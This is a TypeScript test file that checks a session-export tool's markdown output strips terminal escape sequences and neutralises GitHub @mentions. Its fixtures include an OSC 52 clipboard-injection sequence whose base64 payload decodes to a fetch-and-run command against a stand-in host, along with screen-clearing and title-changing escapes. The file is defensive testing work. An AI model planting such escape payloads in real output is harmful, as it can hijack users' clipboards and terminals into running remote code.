// `loupe export --format md` on a hostile session: what it prints is pasted into terminals and pull
// requests, so no escape sequence from the session reaches the terminal and no @mention pings anyone.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { main } from './export';

const dir = mkdtempSync(join(tmpdir(), 'loupe-export-md-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const ESC = '\u001b';
const BEL = '\u0007';
const OSC_52 = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=${BEL}`;
const OSC_0 = `${ESC}]0;pwned${BEL}`;
const CSI_CLEAR = `${ESC}[2J${ESC}[H`;
const C1_OSC = '\u009d52;c;aGk=\u009c';
const C1_CSI = '\u009b2J';

function hostileSession(): string {
  const update = (fields: object) => JSON.stringify({ jsonrpc: '2.0', method: 'session/update', params: { sessionId: 's', update: fields } });
  const text = (t: string) => [{ type: 'content', content: { type: 'text', text: t } }];
  return `${[
    JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'session/prompt', params: { sessionId: 's', prompt: [{ type: 'text', text: `fix it ${OSC_52} and ask @octo-org/security-team and @octocat` }] } }),
    update({ sessionUpdate: 'tool_call', toolCallId: `c1${OSC_0}`, title: `make ${OSC_0}${C1_CSI} cc @octocat`, kind: 'execute', status: 'in_progress', rawInput: { command: `make ${OSC_0}${C1_CSI} cc @octocat` } }),
    update({ sessionUpdate: 'tool_call_update', toolCallId: `c1${OSC_0}`, status: 'failed', content: text(`error ${CSI_CLEAR}${OSC_52}${C1_OSC}\nping @octo-org/security-team`) }),
    JSON.stringify({ jsonrpc: '2.0', id: 1, result: { stopReason: `end_turn${OSC_0} @octocat` } }),
  ].join('\n')}\n`;
}

async function exportMd(): Promise<string> {
  const file = join(dir, 'hostile.jsonl');
  writeFileSync(file, hostileSession());
  const out = join(dir, 'hostile.md');
  const code = await main([file, '--format', 'md', '--out', out], { out: () => {}, err: () => {} });
  expect(code).toBe(0);
  return readFileSync(out, 'utf8');
}

describe('loupe export --format md on a hostile session', () => {
  test('no control character from the session is written: OSC 52, OSC 0, CSI and their 8-bit forms show escaped', async () => {
    const md = await exportMd();
    expect(md).toContain('make');
    // eslint-disable-next-line no-control-regex -- control characters are what must not be there
    expect(md).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    // Shown escaped, as summarize shows them, so a reader sees something was there.
    const shown = md.replace(/\\([\\`*_[\]<>#|~!@])/g, '$1');
    expect(shown).toContain('\\x1b]52;c;');
    expect(shown).toContain('\\x1b]0;pwned');
    expect(shown).toContain('\\x9b2J');
  });

  test('@mentions in session text ping nobody when the md is pasted into a pull request, and still read as written', async () => {
    const md = await exportMd();
    // GitHub links @name and @org/team where @ follows a non-word character and a letter or digit follows it.
    const outsideCode = md.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '').replace(/`[^`\n]*`/g, '');
    expect(outsideCode).toContain('octocat');
    expect(outsideCode).not.toMatch(/(^|[^A-Za-z0-9_])@[A-Za-z0-9]/m);
    // What GitHub shows (the md's text with its escapes and the invisible joiner read away) is what was written.
    const shown = outsideCode.replace(/\\([\\`*_[\]<>#|~!@])/g, '$1').replace(/\u2060/g, '');
    expect(shown).toContain('ask @octo-org/security-team and @octocat');
    // In code blocks GitHub links nothing: output is left as it was printed.
    expect(md).toContain('ping @octo-org/security-team');
  });
});
